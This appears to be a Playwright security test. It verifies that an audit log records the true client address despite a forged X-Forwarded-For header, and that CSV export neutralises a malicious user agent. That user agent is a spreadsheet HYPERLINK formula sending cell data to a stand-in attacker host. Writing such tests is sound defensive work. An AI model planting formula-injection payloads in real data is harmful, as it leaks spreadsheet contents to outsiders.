import { expect, test } from "@playwright/test";
import { signInAsAdmin, uniqueEmail } from "../helpers/auth";
import { parseCsv } from "../helpers/audit";
import { auditEventsOf, fetchAuditExport } from "../helpers/audit-export";
import { signInOverHttp } from "../helpers/http-sign-in";
import { E2E } from "../support/env";

const FORMULA_USER_AGENT = ' =HYPERLINK("http://attacker.example/?"&A1,"open")';

test("[SEC][ADDRESS] the audited client address is the socket's, not a forged X-Forwarded-For; CSV defuses a formula user agent", async ({ page, playwright }) => {
  const email = uniqueEmail("forger");
  const attacker = await playwright.request.newContext({
    baseURL: E2E.appUrl,
    extraHTTPHeaders: { "x-forwarded-for": "203.0.113.66, <b>not-an-address</b>", "x-handshake-peer-address": "198.51.100.7", "user-agent": FORMULA_USER_AGENT },
  });
  expect(await signInOverHttp(attacker, { email, password: "wrong-password-123" })).toMatchObject({ ok: false });
  await attacker.dispose();

  await signInAsAdmin(page);
  const [event] = await auditEventsOf(page, email);
  expect(event).toMatchObject({ action: "auth.sign_in_failed", ip: "127.0.0.1" });

  const csv = parseCsv(await fetchAuditExport(page, "csv", { actor: email }));
  const header = csv[0]!;
  const row = csv.find((r) => r[header.indexOf("actor_email")] === email)!;
  expect(row[header.indexOf("ip")]).toBe("127.0.0.1");
  expect(row[header.indexOf("user_agent")]).toBe(`'${FORMULA_USER_AGENT}`);
});
